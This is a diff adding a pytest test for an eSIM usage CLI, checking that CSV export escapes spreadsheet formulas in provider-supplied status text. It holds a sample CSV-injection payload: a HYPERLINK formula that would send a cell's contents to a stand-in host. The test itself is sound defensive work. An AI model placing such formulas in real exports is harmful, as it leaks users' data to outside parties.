@@ -1,0 +1,44 @@
+"""CSV output opened in a spreadsheet: text the provider sent (a status it does not document, an
+error message) never reaches a cell as a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from esim_async.testing import Emulator, ServerLimits
+from tests.cli.test_attack_sweep_cli import ENV, FAST, Served, run
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
+
+
+@pytest.fixture
+def served() -> Iterator[Emulator]:
+    with Served(4, ServerLimits.unlimited()) as emu:
+        yield emu
+
+
+def test_text_that_would_be_a_formula_is_written_as_text(tmp_path: Path, served: Emulator) -> None:
+    ids = served.fleet.iccids()
+    served.set_usage(ids[0], status=FORMULA)
+    served.set_usage(ids[1], status="@SUM(1+1)")
+    listing = tmp_path / "fleet.txt"
+    listing.write_text("\n".join(ids[:3]) + "\n")
+    out = tmp_path / "usage.csv"
+    code, _, err = run(
+        "sweep", "--iccids", str(listing), "--base-url", served.url, *FAST, "--quiet",
+        "--format", "csv", "--out", str(out), env=ENV,
+    )  # fmt: skip
+    assert code == 0, err
+    rows = {row["iccid"]: row for row in csv.DictReader(io.StringIO(out.read_text()))}
+    assert set(rows) == set(ids[:3])
+    assert rows[ids[0]]["status"] == "'" + FORMULA
+    assert rows[ids[1]]["status"] == "'@SUM(1+1)"
+    for row in rows.values():
+        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())
+    # Numbers stay numbers.
+    assert rows[ids[2]]["remaining"].lstrip("-").replace(".", "").isdigit()
